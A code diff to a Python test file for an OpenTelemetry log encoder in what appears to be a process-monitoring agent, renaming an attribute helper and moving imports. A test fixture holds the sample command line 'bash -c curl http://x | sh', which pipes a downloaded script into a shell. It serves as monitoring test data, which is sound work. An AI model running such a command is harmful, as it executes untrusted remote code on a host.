@@ -9,9 +9,10 @@ from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsSer
 from opentelemetry.sdk._logs import ReadableLogRecord
 from opentelemetry.sdk.util.instrumentation import InstrumentationScope
 
-from otel_agent.emitter import build_resource, to_attributes
+from core.event import CONNECTION, LISTEN, ProcessEvent
+from core.semconv import event_to_attributes
+from otel_agent.emitter import build_resource
 from otel_agent.otlp import RequestEncoder, encode_log_record
-from scoring.event import CONNECTION, LISTEN, ProcessEvent
 
 EVENTS = [
     ProcessEvent(executable_name="bash", command_line="bash -c curl http://x | sh",
@@ -35,7 +36,7 @@ EVENTS = [
 def test_encoding_matches_the_sdk_encoder(event):
     resource = build_resource("prod-web")
     time_ns, observed_ns = int(event.timestamp * 1e9), 1_800_000_000_000_000_000
-    attributes = to_attributes(event)
+    attributes = event_to_attributes(event)
     ours = ExportLogsServiceRequest.FromString(RequestEncoder(resource.attributes, "procsight.otel_agent", "0.1.0")
                                                .encode([encode_log_record(time_ns, observed_ns, event.event_name,
                                                                           event.command_line, attributes)]))
